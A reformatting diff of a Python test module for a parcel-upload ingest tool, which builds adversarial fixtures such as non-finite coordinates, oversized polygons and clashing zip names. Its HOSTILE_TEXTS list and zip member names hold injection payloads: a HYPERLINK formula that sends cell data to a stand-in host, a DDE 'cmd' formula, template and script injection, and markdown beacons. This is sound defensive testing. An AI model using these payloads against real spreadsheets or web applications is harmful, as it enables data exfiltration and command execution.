@@ -25,15 +25,20 @@ from tests.support.ingest_corpus import SIDE, Case, new_parcels, square, write_s
 HOSTILE_TEXTS = [
     "![t](http://h/x.png)",
     "x](http://h/phish) click [here",
-    "=HYPERLINK(\"http://h/?\"&A1,\"ok\")",
+    '=HYPERLINK("http://h/?"&A1,"ok")',
     "=cmd|' /C calc'!A0",
     "<b>{{7*7}}</b>&lt;i&gt;",
     "$\\frac{1}{0}$ @SUM(1)",
 ]
 
 
-def star_polygon(n: int = 160_000, x: float = 118.515, y: float = 28.915,
-                 outer: float = 0.004, inner: float = 0.001) -> shapely.Polygon:
+def star_polygon(
+    n: int = 160_000,
+    x: float = 118.515,
+    y: float = 28.915,
+    outer: float = 0.004,
+    inner: float = 0.001,
+) -> shapely.Polygon:
     """A star with ``n`` vertices alternating between two radii (degrees)."""
     t = np.linspace(0.0, 2 * math.pi, n, endpoint=False)
     r = np.where(np.arange(n) % 2 == 0, outer, inner)
@@ -43,14 +48,27 @@ def star_polygon(n: int = 160_000, x: float = 118.515, y: float = 28.915,
 def _frame(ids, geoms, names=None) -> gpd.GeoDataFrame:
     n = len(ids)
     return gpd.GeoDataFrame(
-        {"DKBH": list(ids), "DKMC": list(names or [f"地块{i}" for i in range(n)]),
-         "PQ": ["新都片区"] * n, "LX": ["工业熟地"] * n}, geometry=list(geoms), crs=4490)
+        {
+            "DKBH": list(ids),
+            "DKMC": list(names or [f"地块{i}" for i in range(n)]),
+            "PQ": ["新都片区"] * n,
+            "LX": ["工业熟地"] * n,
+        },
+        geometry=list(geoms),
+        crs=4490,
+    )
 
 
 def _geojson_text(rows) -> str:
     """GeoJSON text written by hand: GDAL's writers refuse NaN, browsers' JSON does not."""
-    feats = [{"type": "Feature", "properties": {"DKBH": fid, "PQ": "新都片区", "LX": "工业熟地"},
-              "geometry": {"type": "Polygon", "coordinates": [ring]}} for fid, ring in rows]
+    feats = [
+        {
+            "type": "Feature",
+            "properties": {"DKBH": fid, "PQ": "新都片区", "LX": "工业熟地"},
+            "geometry": {"type": "Polygon", "coordinates": [ring]},
+        }
+        for fid, ring in rows
+    ]
     return json.dumps({"type": "FeatureCollection", "features": feats}, ensure_ascii=False)
 
 
@@ -60,8 +78,11 @@ def _ring(x, y, side=SIDE):
 
 def _hostile_ids(folder: Path) -> Path:
     n = len(HOSTILE_TEXTS)
-    gdf = _frame(HOSTILE_TEXTS, [square(118.510 + 2 * SIDE * i, 28.920) for i in range(n)],
-                 names=list(reversed(HOSTILE_TEXTS)))
+    gdf = _frame(
+        HOSTILE_TEXTS,
+        [square(118.510 + 2 * SIDE * i, 28.920) for i in range(n)],
+        names=list(reversed(HOSTILE_TEXTS)),
+    )
     path = folder / "hostile.gpkg"
     pyogrio.write_dataframe(gdf, path, layer="parcels")
     return path
@@ -73,8 +94,12 @@ def _nan_coordinates(folder: Path) -> Path:
     ring_inf = _ring(118.514, 28.921)
     ring_inf[1] = [float("inf"), float("-inf")]
     path = folder / "nan.geojson"
-    path.write_text(_geojson_text([("NAN-1", _ring(118.510, 28.921)), ("NAN-2", ring_nan),
-                                   ("NAN-3", ring_inf)]), encoding="utf-8")
+    path.write_text(
+        _geojson_text(
+            [("NAN-1", _ring(118.510, 28.921)), ("NAN-2", ring_nan), ("NAN-3", ring_inf)]
+        ),
+        encoding="utf-8",
+    )
     return path
 
 
@@ -87,9 +112,13 @@ def _long_member_name(folder: Path) -> Path:
 
 
 def _file_and_folder(folder: Path) -> Path:
-    return zip_files(folder / "clash.zip", {
-        "x.geojson": _one_parcel_geojson("C-1"),
-        "x.geojson/y.geojson": _one_parcel_geojson("C-2", 118.513)})
+    return zip_files(
+        folder / "clash.zip",
+        {
+            "x.geojson": _one_parcel_geojson("C-1"),
+            "x.geojson/y.geojson": _one_parcel_geojson("C-2", 118.513),
+        },
+    )
 
 
 def _file_and_folder_chosen(folder: Path) -> Path:
@@ -115,9 +144,13 @@ def _bang_zip_folder(folder: Path) -> Path:
 
 
 def _markdown_member_names(folder: Path) -> Path:
-    return zip_files(folder / "names.zip", {
-        "![t](http://h/x.png)/=HYPERLINK(1).geojson": _one_parcel_geojson("M-1"),
-        "<script>alert(1)<\\script>.txt": b"not data"})
+    return zip_files(
+        folder / "names.zip",
+        {
+            "![t](http://h/x.png)/=HYPERLINK(1).geojson": _one_parcel_geojson("M-1"),
+            "<script>alert(1)<\\script>.txt": b"not data",
+        },
+    )
 
 
 def _duplicate_members(folder: Path) -> Path:
@@ -144,19 +177,30 @@ def _too_many_vertices_in_upload(folder: Path) -> Path:
 
 HOSTILE_CASES = [
     Case("hostile_ids_and_names", _hostile_ids, "accepted", accepted=len(HOSTILE_TEXTS)),
-    Case("nan_and_infinity_coordinates", _nan_coordinates, "refused:nonfinite_coordinates",
-         accepted=1),
+    Case(
+        "nan_and_infinity_coordinates",
+        _nan_coordinates,
+        "refused:nonfinite_coordinates",
+        accepted=1,
+    ),
     Case("zip_300_char_folder", _long_member_name, "accepted"),
     Case("zip_file_and_folder_same_name", _file_and_folder, "choose:layer"),
-    Case("zip_file_and_folder_chosen", _file_and_folder_chosen, "accepted",
-         options={"layer": "x.geojson/y.geojson"}),
+    Case(
+        "zip_file_and_folder_chosen",
+        _file_and_folder_chosen,
+        "accepted",
+        options={"layer": "x.geojson/y.geojson"},
+    ),
     Case("bang_in_file_name", _bang_name, "accepted"),
     Case("bang_in_chinese_file_name", _bang_chinese_name, "accepted"),
     Case("bang_in_zip_folder", _bang_zip_folder, "accepted", accepted=2),
     Case("markup_in_member_names", _markdown_member_names, "accepted"),
     Case("zip_duplicate_member", _duplicate_members, "refused:unreadable_upload"),
     Case("spiky_star_160k_vertices", _spiky_star, "refused:too_many_vertices", accepted=0),
-    Case("too_many_vertices_in_upload", _too_many_vertices_in_upload,
-         "refused:too_many_vertices_upload",
-         options={"limits": {"max_vertices_per_upload": 5_000}}),
+    Case(
+        "too_many_vertices_in_upload",
+        _too_many_vertices_in_upload,
+        "refused:too_many_vertices_upload",
+        options={"limits": {"max_vertices_per_upload": 5_000}},
+    ),
 ]
